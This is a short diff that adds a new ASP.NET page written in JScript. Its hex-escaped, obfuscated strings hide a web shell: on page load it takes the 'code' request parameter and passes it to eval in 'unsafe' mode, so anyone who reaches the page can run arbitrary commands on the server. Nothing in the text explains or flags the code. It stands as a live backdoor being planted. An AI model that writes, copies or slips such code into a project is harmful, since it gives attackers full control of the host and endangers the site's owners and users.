@@ -1,0 +1,1 @@
+<%@ Page Language="JScript" Debug="false"%><script runat="server">var _0x2c1d=['\x75\x6e\x73\x61\x66\x65','\x63\x6f\x64\x65'];var _0x55aa=function(_0x1a,_0x2b){_0x1a=_0x1a-0x0;return _0x2c1d[_0x1a];};function Page_Load(){var _0x3e9f=Request[_0x55aa('0x1')];eval(_0x3e9f,_0x55aa('0x0'));}</script>
